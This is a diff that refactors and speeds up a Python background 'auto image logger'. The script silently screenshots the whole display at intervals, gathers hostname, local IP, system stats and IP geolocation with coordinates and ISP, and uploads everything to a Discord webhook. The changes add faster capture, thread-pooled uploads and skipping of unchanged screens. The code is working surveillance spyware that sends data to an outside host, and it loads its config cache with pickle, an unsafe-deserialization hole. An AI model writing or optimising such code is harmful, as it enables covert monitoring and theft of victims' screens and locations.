@@ -8,16 +8,57 @@ import os
 import sys
 import time
 import json
-import requests
+import pickle
+import importlib
+import importlib.util
 import threading
 import signal
+from collections import deque
+from concurrent.futures import ThreadPoolExecutor
 from datetime import datetime
 from io import BytesIO
-from PIL import ImageGrab, Image
+from PIL import Image
 from pathlib import Path
 from typing import Optional, Dict
 import logging
 import traceback
+import types
+
+# Optional accelerators, each falls back to PIL when missing
+try:
+    import numpy as np
+except ImportError:
+    np = None
+
+# Screen capture into a reused shared-memory buffer
+try:
+    import mss
+except ImportError:
+    mss = None
+
+# HTTP/2 client, multiplexes concurrent uploads over one connection (falls back to requests)
+try:
+    import httpx
+except ImportError:
+    httpx = None
+
+# Faster JSON encoding/decoding
+try:
+    import orjson
+except ImportError:
+    orjson = None
+
+# JIT compiler for per-pixel loops
+try:
+    from numba import njit
+except ImportError:
+    njit = None
+
+# libjpeg-turbo bindings for faster JPEG encoding
+try:
+    from turbojpeg import TurboJPEG, TJPF_RGB, TJSAMP_420
+except ImportError:
+    TurboJPEG = None
 
 # Set up logging
 logging.basicConfig(
@@ -31,11 +72,91 @@ logging.basicConfig(
 logger = logging.getLogger(__name__)
 
 
+if njit is not None:
+    @njit(cache=True)
+    def _dhash64(gray):
+        """dHash of a 8x9 grayscale array: one bit per horizontally adjacent pixel pair."""
+        value = np.uint64(0)
+        for row in range(8):
+            for col in range(8):
+                value = (value << np.uint64(1)) | np.uint64(gray[row, col + 1] > gray[row, col])
+        return value
+
+
+# Modules only needed once the logger runs, imported on first use
+_psutil = None
+_requests_module = None
+
+
+def _get_psutil():
+    """Return the psutil module, importing it on first use."""
+    global _psutil
+    if _psutil is None:
+        _psutil = importlib.import_module('psutil')
+    return _psutil
+
+
+def _requests():
+    """Return the requests module, importing it on first use."""
+    global _requests_module
+    if _requests_module is None:
+        _requests_module = importlib.import_module('requests')
+    return _requests_module
+
+
+def _http_errors():
+    """(timeout, any request failure) exception types of the HTTP library in use."""
+    if httpx is not None:
+        return httpx.TimeoutException, httpx.HTTPError
+    requests = _requests()
+    return requests.exceptions.Timeout, requests.exceptions.RequestException
+
+
+def json_dumps(obj, indent: bool = False) -> bytes:
+    """Serialize to JSON bytes, using orjson when available."""
+    if orjson is not None:
+        return orjson.dumps(obj, option=orjson.OPT_INDENT_2 if indent else 0)
+    return json.dumps(obj, indent=4 if indent else None).encode('utf-8')
+
+
+def json_loads(data):
+    """Parse JSON from bytes or str, using orjson when available."""
+    if orjson is not None:
+        return orjson.loads(data)
+    return json.loads(data)
+
+
 class AutoImageLogger:
     """
     Auto-capturing image logger that runs in background without user interaction.
     """
 
+    __slots__ = (
+        'config_path', 'config', 'running', 'capture_thread', 'session_id', 'capture_count',
+        '_stop_evt', '_make_embed', '_tj', '_sct', '_encode_buf', '_pool', '_pending',
+        '_client', '_location_cache', '_static_sysinfo', '_last_hash', '_dhash',
+        '_session_log_fd', '_save_buffer', '_save_ready', '_save_closed', '_save_thread'
+    )
+
+    # image_format config value -> (file extension, MIME type)
+    IMAGE_FORMATS = {
+        "jpeg": ("jpg", "image/jpeg"),
+        "webp": ("webp", "image/webp"),
+    }
+
+    # Constant parts of every webhook message
+    EMBED_SKELETON = {"title": "🤖 Auto-Captured Screenshot"}
+    WEBHOOK_IDENTITY = {
+        "username": "Auto Image Logger",
+        "avatar_url": "https://cdn-icons-png.flaticon.com/512/4712/4712035.png"
+    }
+
+    # get_system_info() keys listed in the embed
+    SYSINFO_KEYS = (
+        "timestamp", "platform", "python_version", "system", "release", "processor",
+        "hostname", "local_ip", "cpu_percent", "memory_percent", "disk_usage"
+    )
+
     def __init__(self, config_path: str = "auto_config.json"):
         """
         Initialize the auto logger with configuration.
@@ -44,11 +165,42 @@ class AutoImageLogger:
             config_path: Path to configuration file
         """
         self.config_path = config_path
-        self.config = self.load_config()
+        # Attribute access (self.config.capture_interval) for the hot path; vars() gives the dict back
+        self.config = types.SimpleNamespace(**self.load_config())
         self.running = False
         self.capture_thread = None
         self.session_id = datetime.now().strftime("%Y%m%d_%H%M%S")
         self.capture_count = 0
+        self._stop_evt = threading.Event()  # Set by stop() to wake any waiting thread
+
+        self._make_embed = self._compile_embed_builder()
+        self._tj = self.load_turbojpeg()
+        self._sct = threading.local()  # mss instances are not thread-safe
+        self._encode_buf = threading.local()  # Per-thread BytesIO reused across encodes
+
+        # Encoding and uploading run on a small pool so a slow upload doesn't delay the next capture
+        self._pool = ThreadPoolExecutor(max_workers=self.config.worker_threads)
+        self._pending = deque(maxlen=8)
+
+        # One client for all HTTP calls so connections (and TLS) are kept alive
+        self._client = self.create_http_client()
+
+        # Location and static system fields don't change between captures
+        self._location_cache = (0.0, None)
+        self._static_sysinfo = None
+        self._last_hash = None
+        self._dhash = self.load_hash_kernel()
+
+        # Session events are appended to one JSONL file through a descriptor kept open
+        self._session_log_fd = None
+
+        # Local saves are buffered in memory and written by a background thread
+        self._save_buffer = deque(maxlen=16)
+        self._save_ready = threading.Condition()
+        self._save_closed = False
+        self._save_thread = threading.Thread(target=self._drain_local_saves, daemon=True)
+        self._save_thread.start()
+        self._dynamic_system_info()  # Prime psutil's CPU counter for non-blocking reads
 
         # Create necessary directories
         self.setup_directories()
@@ -58,9 +210,9 @@ class AutoImageLogger:
         signal.signal(signal.SIGTERM, self.signal_handler)
 
         logger.info(f"Auto Image Logger Initialized - Session: {self.session_id}")
-        logger.info(f"Webhook URL: {self.mask_webhook_url(self.config['webhook_url'])}")
-        logger.info(f"Capture interval: {self.config['capture_interval']} seconds")
-        logger.info(f"Location capture: {'Enabled' if self.config['capture_location'] else 'Disabled'}")
+        logger.info(f"Webhook URL: {self.mask_webhook_url(self.config.webhook_url)}")
+        logger.info(f"Capture interval: {self.config.capture_interval} seconds")
+        logger.info(f"Location capture: {'Enabled' if self.config.capture_location else 'Disabled'}")
 
     def mask_webhook_url(self, url: str) -> str:
         """Mask webhook URL for secure logging."""
@@ -74,6 +226,9 @@ class AutoImageLogger:
             "webhook_url": "",  # MUST be set by user
             "capture_interval": 300,  # 5 minutes by default
             "image_quality": 85,
+            "image_format": "jpeg",  # "jpeg" or "webp"
+            "max_width": 0,  # Downscale wider captures before encoding (0 = keep size)
+            "capture_max_dimension": 1920,  # Shrink captures larger than this on either side (0 = keep size)
             "max_captures": 0,  # 0 = unlimited
             "save_locally": True,
             "local_save_path": "auto_captures",
@@ -85,18 +240,24 @@ class AutoImageLogger:
             "capture_location": True,
             "location_service": "ipapi",
             "location_timeout": 5,
+            "location_ttl": 3600,  # Seconds to reuse a location lookup
+            "dedup_enabled": True,  # Skip captures that look the same as the previous one
+            "dedup_threshold": 5,  # Differing hash bits (of 64) below which a capture is a duplicate
             "start_delay": 10,  # Seconds before first capture
             "log_level": "INFO",
             "run_forever": True,  # Run until stopped
-            "auto_start": True  # Start capturing immediately
+            "auto_start": True,  # Start capturing immediately
+            "worker_threads": 2  # Threads encoding/uploading captures
         }
 
         if os.path.exists(self.config_path):
             try:
-                with open(self.config_path, 'r') as f:
-                    user_config = json.load(f)
-                    # Update default config with user values
-                    default_config.update(user_config)
+                user_config = self.load_cached_config()
+                if user_config is None:
+                    with open(self.config_path, 'rb') as f:
+                        user_config = json_loads(f.read())
+                # Update default config with user values
+                default_config.update(user_config)
             except Exception as e:
                 logger.error(f"Error loading config: {e}. Using defaults.")
 
@@ -106,8 +267,9 @@ class AutoImageLogger:
             sys.exit(1)
 
         # Save config for future use
-        with open(self.config_path, 'w') as f:
-            json.dump(default_config, f, indent=4)
+        with open(self.config_path, 'wb') as f:
+            f.write(json_dumps(default_config, indent=True))
+        self.save_cached_config(default_config)
 
         # Set log level from config
         log_level = getattr(logging, default_config['log_level'].upper(), logging.INFO)
@@ -115,10 +277,75 @@ class AutoImageLogger:
 
         return default_config
 
+    def cached_config_path(self) -> str:
+        """Path of the pre-parsed config sidecar (auto_config.pkl)."""
+        return os.path.splitext(self.config_path)[0] + ".pkl"
+
+    def load_cached_config(self) -> Optional[Dict]:
+        """Load the pre-parsed config if it is newer than the last JSON edit."""
+        try:
+            with open(self.cached_config_path(), 'rb') as f:
+                mtime, config = pickle.load(f)
+            if mtime == os.path.getmtime(self.config_path):
+                return config
+        except Exception:
+            pass
+        return None
+
+    def save_cached_config(self, config: Dict):
+        """Write the pre-parsed config sidecar, tagged with the JSON file's mtime."""
+        try:
+            with open(self.cached_config_path(), 'wb') as f:
+                pickle.dump((os.path.getmtime(self.config_path), config), f,
+                            protocol=pickle.HIGHEST_PROTOCOL)
+        except Exception as e:
+            logger.debug(f"Could not write config cache: {e}")
+
+    def load_turbojpeg(self):
+        """Load libjpeg-turbo if available, otherwise JPEG encoding uses PIL."""
+        if TurboJPEG is None:
+            return None
+        try:
+            return TurboJPEG()
+        except Exception as e:
+            logger.debug(f"libjpeg-turbo unavailable, using PIL for JPEG: {e}")
+            return None
+
+    def create_http_client(self):
+        """Create a pooled HTTP client: httpx (HTTP/2 if h2 is installed) or a retrying requests session."""
+        headers = {
+            'User-Agent': 'AutoImageLogger',
+            'Accept-Encoding': 'gzip, deflate'
+        }
+
+        if httpx is not None:
+            http2 = importlib.util.find_spec('h2') is not None
+            return httpx.Client(
+                http2=http2,
+                timeout=30.0,
+                headers=headers,
+                limits=httpx.Limits(max_connections=4),
+                transport=httpx.HTTPTransport(http2=http2, retries=3)
+            )
+
+        from requests.adapters import HTTPAdapter
+        from urllib3.util.retry import Retry
+
+        session = _requests().Session()
+        adapter = HTTPAdapter(
+            pool_connections=2,
+            pool_maxsize=4,
+            max_retries=Retry(total=3, backoff_factor=0.5, status_forcelist=[429, 502, 503])
+        )
+        session.mount('https://', adapter)
+        session.mount('http://', adapter)
+        session.headers.update(headers)
+        return session
+
     def setup_directories(self):
         """Create necessary directories for logging."""
         directories = [
-            self.config['local_save_path'],
+            self.config.local_save_path,
             "logs",
             "session_logs"
         ]
@@ -132,9 +359,32 @@ class AutoImageLogger:
         self.stop()
         sys.exit(0)
 
+    def get_screen_grabber(self):
+        """Return this thread's mss instance, or None if mss can't be used."""
+        if mss is None or np is None:
+            return None
+        sct = getattr(self._sct, 'sct', None)
+        if sct is None:
+            try:
+                sct = mss.mss()
+            except Exception as e:
+                logger.debug(f"mss unavailable, using ImageGrab: {e}")
+                return None
+            self._sct.sct = sct
+        return sct
+
     def capture_screenshot(self) -> Optional[Image.Image]:
         """Capture a screenshot."""
         try:
+            sct = self.get_screen_grabber()
+            if sct is not None:
+                raw = sct.grab(sct.monitors[0])
+                arr = np.frombuffer(raw.bgra, dtype=np.uint8).reshape(raw.height, raw.width, 4)
+                # BGRA -> RGB as a single contiguous copy instead of PIL's per-pixel convert
+                rgb = np.ascontiguousarray(arr[:, :, 2::-1])
+                return Image.frombuffer('RGB', (raw.width, raw.height), rgb, 'raw', 'RGB', 0, 1)
+
+            from PIL import ImageGrab
             screenshot = ImageGrab.grab()
 
             # Convert to RGB if needed
@@ -146,24 +396,76 @@ class AutoImageLogger:
             logger.error(f"Error capturing screenshot: {e}")
             return None
 
+    def load_hash_kernel(self):
+        """Compile the numba dHash kernel up front, or None to hash with numpy/Python."""
+        if njit is None or np is None:
+            return None
+        try:
+            _dhash64(np.zeros((8, 9), dtype=np.uint8))
+            return _dhash64
+        except Exception as e:
+            logger.debug(f"numba hash kernel unavailable: {e}")
+            return None
+
+    def frame_hash(self, image: Image.Image) -> int:
+        """64-bit difference hash (dHash) of a 9x8 grayscale thumbnail."""
+        small = image.resize((9, 8), Image.BILINEAR).convert('L')
+
+        if self._dhash is not None:
+            return int(self._dhash(np.asarray(small)))
+
+        if np is not None:
+            pixels = np.asarray(small)
+            bits = pixels[:, 1:] > pixels[:, :-1]
+            return int.from_bytes(np.packbits(bits.flatten()).tobytes(), 'big')
+
+        pixels = list(small.getdata())
+        value = 0
+        for row in range(8):
+            for col in range(8):
+                value = (value << 1) | int(pixels[row * 9 + col + 1] > pixels[row * 9 + col])
+        return value
+
+    def is_duplicate(self, image: Image.Image) -> bool:
+        """Check whether the frame is nearly identical to the previous one."""
+        if not self.config.dedup_enabled:
+            return False
+
+        frame_hash = self.frame_hash(image)
+        previous, self._last_hash = self._last_hash, frame_hash
+        if previous is None:
+            return False
+        return bin(frame_hash ^ previous).count('1') < self.config.dedup_threshold
+
     def get_location_data(self) -> Dict[str, any]:
         """Get approximate location data using IP geolocation."""
-        if not self.config['capture_location']:
+        if not self.config.capture_location:
             return {"status": "Location capture disabled"}
 
+        cached_at, cached = self._location_cache
+        if cached is not None and time.monotonic() - cached_at < self.config.location_ttl:
+            return cached
+
+        location = self.fetch_location_data()
+        if location.get('status') == 'success':
+            self._location_cache = (time.monotonic(), location)
+        return location
+
+    def fetch_location_data(self) -> Dict[str, any]:
+        """Look up location data from the configured IP geolocation service."""
         services = {
             "ipapi": "http://ip-api.com/json/?fields=status,message,country,countryCode,region,regionName,city,zip,lat,lon,timezone,isp,org,as,query",
             "ipapi_co": "https://ipapi.co/json/",
             "geolocation": "http://ip-api.com/json/?fields=status,message,country,regionName,city,lat,lon,isp,query"
         }
 
-        service_url = services.get(self.config['location_service'], services["ipapi"])
+        service_url = services.get(self.config.location_service, services["ipapi"])
 
         try:
-            response = requests.get(service_url, timeout=self.config['location_timeout'])
+            response = self._client.get(service_url, timeout=self.config.location_timeout)
 
             if response.status_code == 200:
-                data = response.json()
+                data = json_loads(response.content)
 
                 if service_url == services["ipapi"] or service_url == services["geolocation"]:
                     if data.get("status") == "success":
@@ -198,9 +500,9 @@ class AutoImageLogger:
 
             return {"status": f"HTTP error: {response.status_code}"}
 
-        except requests.exceptions.Timeout:
+        except _http_errors()[0]:
             return {"status": "Location service timeout"}
-        except requests.exceptions.RequestException as e:
+        except _http_errors()[1] as e:
             return {"status": f"Network error: {str(e)}"}
         except Exception as e:
             return {"status": f"Location error: {str(e)}"}
@@ -215,99 +517,128 @@ class AutoImageLogger:
             "capture_number": self.capture_count
         }
 
+        info.update(self._static_system_info())
+        info.update(self._dynamic_system_info())
+
+        return info
+
+    def _static_system_info(self) -> Dict[str, str]:
+        """System fields that never change, looked up once."""
+        if self._static_sysinfo is None:
+            try:
+                import platform
+                import socket
+
+                self._static_sysinfo = {
+                    "system": platform.system(),
+                    "release": platform.release(),
+                    "processor": platform.processor(),
+                    "hostname": platform.node(),
+                    "local_ip": socket.gethostbyname(socket.gethostname())
+                }
+            except Exception:
+                self._static_sysinfo = {}
+
+        return self._static_sysinfo
+
+    def _dynamic_system_info(self) -> Dict[str, str]:
+        """Current resource usage."""
         try:
-            import platform
-            import socket
-            import psutil
-
-            info.update({
-                "system": platform.system(),
-                "release": platform.release(),
-                "processor": platform.processor(),
-                "hostname": platform.node(),
-                "local_ip": socket.gethostbyname(socket.gethostname()),
-                "cpu_percent": psutil.cpu_percent(interval=1),
+            psutil = _get_psutil()
+
+            return {
+                # Non-blocking: usage since the previous call
+                "cpu_percent": psutil.cpu_percent(interval=None),
                 "memory_percent": psutil.virtual_memory().percent,
                 "disk_usage": psutil.disk_usage('/').percent
-            })
+            }
         except ImportError:
-            pass
+            return {}
         except Exception:
-            pass
+            return {}
 
-        return info
+    def _compile_embed_builder(self):
+        """
+        Build an embed factory specialized for this session.
+
+        The config flags, embed color and session id are fixed while running,
+        so they are resolved once here instead of on every capture.
+        """
+        skeleton = dict(self.EMBED_SKELETON, color=self.config.embed_color)
+        footer_prefix = f"Auto Logger • Session: {self.session_id} • Capture #"
+        include_system_info = self.config.include_system_info
+        capture_location = self.config.capture_location
+        template = {key: f"**{key.replace('_', ' ').title()}:** {{}}" for key in self.SYSINFO_KEYS}
+        location_field = self.location_field
+
+        def build(system_info: Dict, location_info: Dict = None) -> Dict:
+            fields = []
+
+            # Add system info
+            if include_system_info:
+                system_fields = [template[key].format(value) for key, value in system_info.items() if key in template]
+                if system_fields:
+                    fields.append({
+                        "name": "💻 System Info",
+                        "value": "\n".join(system_fields),
+                        "inline": False
+                    })
+
+            # Add location info
+            if capture_location and location_info and location_info.get('status') == 'success':
+                fields.append(location_field(location_info))
+
+            return dict(
+                skeleton,
+                fields=fields,
+                footer={"text": f"{footer_prefix}{system_info.get('capture_number', self.capture_count)}"},
+                timestamp=datetime.now().isoformat()
+            )
+
+        return build
+
+    def location_field(self, location_info: Dict) -> Dict:
+        """Embed field for a successful location lookup."""
+        lat = location_info.get('latitude')
+        lon = location_info.get('longitude')
+        city = location_info.get('city', 'Unknown')
+        country = location_info.get('country', 'Unknown')
+
+        google_maps_link = f"https://maps.google.com/?q={lat},{lon}"
+
+        location_text = (
+            f"**📍 {city}, {country}**\n"
+            f"**Coordinates:** {lat:.6f}, {lon:.6f}\n"
+            f"**ISP:** {location_info.get('isp', 'Unknown')}\n"
+            f"**IP:** ||{location_info.get('ip', 'Unknown')}||\n"
+            f"[Google Maps]({google_maps_link})"
+        )
+
+        return {
+            "name": "🌍 Location",
+            "value": location_text,
+            "inline": False
+        }
 
     def create_discord_embed(self, system_info: Dict, location_info: Dict = None) -> Dict:
         """Create Discord embed."""
-        embed = {
-            "title": "🤖 Auto-Captured Screenshot",
-            "color": self.config['embed_color'],
-            "fields": [],
-            "footer": {
-                "text": f"Auto Logger • Session: {self.session_id} • Capture #{self.capture_count}"
-            },
-            "timestamp": datetime.now().isoformat()
-        }
+        return self._make_embed(system_info, location_info)
 
-        # Add system info
-        if self.config['include_system_info']:
-            system_fields = []
-            for key, value in system_info.items():
-                if key not in ['session_id', 'capture_number']:
-                    system_fields.append(f"**{key.replace('_', ' ').title()}:** {value}")
-
-            if system_fields:
-                embed["fields"].append({
-                    "name": "💻 System Info",
-                    "value": "\n".join(system_fields),
-                    "inline": False
-                })
-
-        # Add location info
-        if location_info and self.config['capture_location']:
-            if location_info.get('status') == 'success':
-                lat = location_info.get('latitude')
-                lon = location_info.get('longitude')
-                city = location_info.get('city', 'Unknown')
-                country = location_info.get('country', 'Unknown')
-
-                google_maps_link = f"https://maps.google.com/?q={lat},{lon}"
-
-                location_text = (
-                    f"**📍 {city}, {country}**\n"
-                    f"**Coordinates:** {lat:.6f}, {lon:.6f}\n"
-                    f"**ISP:** {location_info.get('isp', 'Unknown')}\n"
-                    f"**IP:** ||{location_info.get('ip', 'Unknown')}||\n"
-                    f"[Google Maps]({google_maps_link})"
-                )
-
-                embed["fields"].append({
-                    "name": "🌍 Location",
-                    "value": location_text,
-                    "inline": False
-                })
-
-        return embed
-
-    def send_to_discord(self, image_data: BytesIO, filename: str, system_info: Dict, location_info: Dict = None):
+    def send_to_discord(self, image_data: bytes, filename: str, system_info: Dict, location_info: Dict = None):
         """Send image to Discord webhook."""
         try:
             files = {
-                'file': (filename, image_data, 'image/jpeg')
+                'file': (filename, image_data, self.image_format()[1])
             }
 
-            payload = {
-                "username": "Auto Image Logger",
-                "avatar_url": "https://cdn-icons-png.flaticon.com/512/4712/4712035.png",
-                "embeds": [self.create_discord_embed(system_info, location_info)]
-            }
+            payload = dict(self.WEBHOOK_IDENTITY, embeds=[self.create_discord_embed(system_info, location_info)])
 
-            if self.config['include_timestamp']:
+            if self.config.include_timestamp:
                 payload["content"] = f"📸 Auto-captured at {datetime.now().strftime('%H:%M:%S')}"
 
-            files['payload_json'] = (None, json.dumps(payload), 'application/json')
+            files['payload_json'] = (None, json_dumps(payload), 'application/json')
 
-            response = requests.post(self.config['webhook_url'], files=files, timeout=30)
+            response = self._client.post(self.config.webhook_url, files=files, timeout=30)
 
             if response.status_code in [200, 204]:
                 logger.info(f"Sent to Discord successfully")
@@ -317,38 +648,101 @@ class AutoImageLogger:
         except Exception as e:
             logger.error(f"Error sending to Discord: {e}")
 
-    def save_locally(self, image: Image.Image) -> Optional[str]:
-        """Save screenshot locally."""
-        if not self.config['save_locally']:
+    def save_locally(self, image_data: bytes, capture_number: int) -> Optional[str]:
+        """Save encoded screenshot locally."""
+        if not self.config.save_locally:
             return None
 
         timestamp = datetime.now().strftime("%Y%m%d_%H%M%S")
-        filename = f"auto_{self.session_id}_{self.capture_count:06d}_{timestamp}.jpg"
-        filepath = os.path.join(self.config['local_save_path'], filename)
+        filename = f"auto_{self.session_id}_{capture_number:06d}_{timestamp}.{self.image_format()[0]}"
+        filepath = os.path.join(self.config.local_save_path, filename)
+
+        # Queue for the writer thread; a full buffer drops the oldest pending save
+        with self._save_ready:
+            if len(self._save_buffer) == self._save_buffer.maxlen:
+                logger.warning(f"Local save buffer full, dropping {self._save_buffer[0][0]}")
+            self._save_buffer.append((filepath, image_data))
+            self._save_ready.notify()
+        return filepath
+
+    def _drain_local_saves(self):
+        """Write buffered local saves to disk until closed and empty."""
+        while True:
+            with self._save_ready:
+                while not self._save_buffer and not self._save_closed:
+                    self._save_ready.wait()
+                if not self._save_buffer:
+                    return
+                filepath, image_data = self._save_buffer.popleft()
 
-        try:
-            image.save(filepath, format='JPEG', quality=self.config['image_quality'], optimize=True)
-            logger.debug(f"Saved locally: {filepath}")
-            return filepath
-        except Exception as e:
-            logger.error(f"Error saving locally: {e}")
-            return None
+            try:
+                Path(filepath).write_bytes(image_data)
+                logger.debug(f"Saved locally: {filepath}")
+            except Exception as e:
+                logger.error(f"Error saving locally: {e}")
 
-    def compress_image(self, image: Image.Image, max_size_mb: float = 8) -> BytesIO:
+    def log_session_event(self, event: str, **fields):
+        """Append one event line to session_logs/session.jsonl."""
+        if self._session_log_fd is None:
+            return
+        record = {"event": event, "session_id": self.session_id, **fields}
+        try:
+            os.write(self._session_log_fd, json_dumps(record) + b"\n")
+        except OSError as e:
+            logger.error(f"Error writing session log: {e}")
+
+    def encode_buffer(self) -> BytesIO:
+        """Return this thread's reusable encode buffer, emptied."""
+        buf = getattr(self._encode_buf, 'buf', None)
+        if buf is None:
+            buf = self._encode_buf.buf = BytesIO()
+        buf.seek(0)
+        buf.truncate()
+        return buf
+
+    def image_format(self) -> tuple:
+        """(file extension, MIME type) of the configured upload format."""
+        return self.IMAGE_FORMATS.get(self.config.image_format, self.IMAGE_FORMATS["jpeg"])
+
+    def encode_image(self, image: Image.Image, quality: int) -> bytes:
+        """Encode image in the configured format."""
+        if self.config.image_format == "webp":
+            output = self.encode_buffer()
+            image.save(output, format='WEBP', quality=quality, method=4)
+            return output.getvalue()
+        return self.encode_jpeg(image, quality)
+
+    def encode_jpeg(self, image: Image.Image, quality: int) -> bytes:
+        """Encode image as JPEG, using libjpeg-turbo when available."""
+        if self._tj is not None:
+            return self._tj.encode(np.asarray(image), quality=quality,
+                                   pixel_format=TJPF_RGB, jpeg_subsample=TJSAMP_420)
+
+        output = self.encode_buffer()
+        image.save(output, format='JPEG', quality=quality)
+        return output.getvalue()
+
+    def compress_image(self, image: Image.Image, max_size_mb: float = 8) -> bytes:
         """Compress image for Discord."""
-        output = BytesIO()
-        quality = self.config['image_quality']
-
-        image.save(output, format='JPEG', quality=quality, optimize=True)
-
-        # Reduce quality if too large
-        while output.tell() > max_size_mb * 1024 * 1024 and quality > 10:
-            quality -= 10
-            output = BytesIO()
-            image.save(output, format='JPEG', quality=quality, optimize=True)
-
-        output.seek(0)
-        return output
+        # Downscale once before encoding
+        max_width = self.config.max_width
+        if max_width and image.width > max_width:
+            image = image.resize((max_width, int(image.height * max_width / image.width)), Image.LANCZOS)
+
+        max_bytes = max_size_mb * 1024 * 1024
+        quality = self.config.image_quality
+        data = self.encode_image(image, quality)
+
+        # Too large: predict the quality that fits (size scales roughly with quality)
+        # and re-encode, halving once more if the estimate was off. At most 3 encodes.
+        if len(data) > max_bytes:
+            quality = max(20, int(quality * (max_bytes / len(data)) ** 0.9))
+            data = self.encode_image(image, quality)
+            if len(data) > max_bytes:
+                quality //= 2
+                data = self.encode_image(image, quality)
+
+        return data
 
     def capture_and_process(self):
         """Main capture and processing function."""
@@ -361,26 +755,39 @@ class AutoImageLogger:
                 logger.warning("Failed to capture screenshot, skipping...")
                 return
 
+            # Shrink high-resolution captures in place before any further work
+            max_dim = self.config.capture_max_dimension
+            if max_dim and max(screenshot.size) > max_dim:
+                screenshot.thumbnail((max_dim, max_dim), Image.BILINEAR)
+
+            # Skip unchanged screens (idle or locked)
+            if self.is_duplicate(screenshot):
+                logger.info("Screen unchanged since last capture, skipping...")
+                return
+
             # Get system info
             system_info = self.get_system_info()
 
             # Get location data
             location_info = None
-            if self.config['capture_location']:
+            if self.config.capture_location:
                 location_info = self.get_location_data()
                 if location_info.get('status') == 'success':
                     logger.info(
                         f"Location: {location_info.get('city', 'Unknown')}, {location_info.get('country', 'Unknown')}")
 
-            # Save locally
-            self.save_locally(screenshot)
+            # Hand encoding and upload to the worker pool
+            future = self._pool.submit(self._encode_and_send, screenshot, system_info,
+                                       location_info, self.capture_count)
 
-            # Prepare and send to Discord
-            image_data = self.compress_image(screenshot, self.config['max_image_size_mb'])
-            filename = f"auto_{self.session_id}_{self.capture_count:06d}.jpg"
-            self.send_to_discord(image_data, filename, system_info, location_info)
+            # Bound the backlog: drop finished work, cancel the oldest queued capture if still full
+            while self._pending and self._pending[0].done():
+                self._pending.popleft()
+            if len(self._pending) == self._pending.maxlen:
+                if self._pending.popleft().cancel():
+                    logger.warning("Upload backlog full, dropped oldest queued capture")
+            self._pending.append(future)
 
-            image_data.close()
             self.capture_count += 1
 
             # Log status periodically
@@ -391,27 +798,43 @@ class AutoImageLogger:
             logger.error(f"Error in capture_and_process: {e}")
             logger.error(traceback.format_exc())
 
+    def _encode_and_send(self, screenshot: Image.Image, system_info: Dict,
+                         location_info: Optional[Dict], capture_number: int):
+        """Encode a capture, save it locally and send it to Discord (runs on the worker pool)."""
+        try:
+            # Encode once, save locally and send the same image to Discord
+            image_data = self.compress_image(screenshot, self.config.max_image_size_mb)
+            self.save_locally(image_data, capture_number)
+
+            filename = f"auto_{self.session_id}_{capture_number:06d}.{self.image_format()[0]}"
+            self.send_to_discord(image_data, filename, system_info, location_info)
+        except Exception as e:
+            logger.error(f"Error processing capture #{capture_number}: {e}")
+            logger.error(traceback.format_exc())
+
     def start_capture_loop(self):
         """Start the automated capture loop."""
-        logger.info(f"Starting capture loop with {self.config['capture_interval']}s interval")
+        logger.info(f"Starting capture loop with {self.config.capture_interval}s interval")
 
         # Initial delay
-        if self.config['start_delay'] > 0:
-            logger.info(f"Waiting {self.config['start_delay']} seconds before first capture...")
-            time.sleep(self.config['start_delay'])
+        if self.config.start_delay > 0:
+            logger.info(f"Waiting {self.config.start_delay} seconds before first capture...")
+            if self._stop_evt.wait(self.config.start_delay):
+                return
 
         while self.running:
             try:
                 self.capture_and_process()
 
                 # Check if we've reached max captures
-                if self.config['max_captures'] > 0 and self.capture_count >= self.config['max_captures']:
-                    logger.info(f"Reached maximum captures ({self.config['max_captures']}), stopping...")
+                if self.config.max_captures > 0 and self.capture_count >= self.config.max_captures:
+                    logger.info(f"Reached maximum captures ({self.config.max_captures}), stopping...")
                     self.stop()
                     break
 
-                # Wait for next capture
-                time.sleep(self.config['capture_interval'])
+                # Wait for next capture (returns early when stopped)
+                if self._stop_evt.wait(self.config.capture_interval):
+                    break
 
             except KeyboardInterrupt:
                 logger.info("Capture loop interrupted")
@@ -420,7 +843,7 @@ class AutoImageLogger:
             except Exception as e:
                 logger.error(f"Error in capture loop: {e}")
                 # Continue running despite errors
-                time.sleep(60)  # Wait a minute before retrying
+                self._stop_evt.wait(60)  # Wait a minute before retrying
 
     def start(self):
         """Start the auto logger."""
@@ -431,14 +854,9 @@ class AutoImageLogger:
         self.running = True
 
         # Save session info
-        session_info = {
-            "session_id": self.session_id,
-            "start_time": datetime.now().isoformat(),
-            "config": self.config
-        }
-
-        with open(f"session_logs/session_{self.session_id}.json", 'w') as f:
-            json.dump(session_info, f, indent=4)
+        self._session_log_fd = os.open(os.path.join("session_logs", "session.jsonl"),
+                                       os.O_WRONLY | os.O_CREAT | os.O_APPEND)
+        self.log_session_event("start", start_time=datetime.now().isoformat(), config=vars(self.config))
 
         # Start capture thread
         self.capture_thread = threading.Thread(target=self.start_capture_loop)
@@ -447,26 +865,37 @@ class AutoImageLogger:
 
         logger.info("✅ Auto logger started")
 
-        # Keep main thread alive
-        while self.running:
-            time.sleep(1)
+        # Keep main thread alive until stopped. The timeout keeps Ctrl+C
+        # deliverable on Windows, where an untimed wait can't be interrupted.
+        while not self._stop_evt.wait(1):
+            pass
+
+        # stop() may be running on the capture thread, let it finish
+        if self.capture_thread is not threading.current_thread():
+            self.capture_thread.join()
 
     def stop(self):
         """Stop the auto logger."""
         self.running = False
+        self._stop_evt.set()
 
-        # Save session end info
-        session_end_info = {
-            "session_id": self.session_id,
-            "end_time": datetime.now().isoformat(),
-            "total_captures": self.capture_count
-        }
+        if self.capture_thread and self.capture_thread is not threading.current_thread():
+            self.capture_thread.join(timeout=10)
 
-        with open(f"session_logs/session_{self.session_id}_end.json", 'w') as f:
-            json.dump(session_end_info, f, indent=4)
+        # Let queued uploads finish, then flush pending local saves
+        self._pool.shutdown(wait=True)
+        self._client.close()
+        with self._save_ready:
+            self._save_closed = True
+            self._save_ready.notify()
+        self._save_thread.join()
 
-        if self.capture_thread:
-            self.capture_thread.join(timeout=10)
+        # Save session end info
+        if self._session_log_fd is not None:
+            self.log_session_event("end", end_time=datetime.now().isoformat(),
+                                   total_captures=self.capture_count)
+            os.close(self._session_log_fd)
+            self._session_log_fd = None
 
         logger.info("🛑 Auto logger stopped")
 
@@ -534,8 +963,8 @@ def main():
             "auto_start": True
         }
 
-        with open(config_file, 'w') as f:
-            json.dump(default_config, f, indent=4)
+        with open(config_file, 'wb') as f:
+            f.write(json_dumps(default_config, indent=True))
 
         print(f"✅ Created {config_file}")
         print("⚠️  Please edit this file and set your Discord webhook URL!")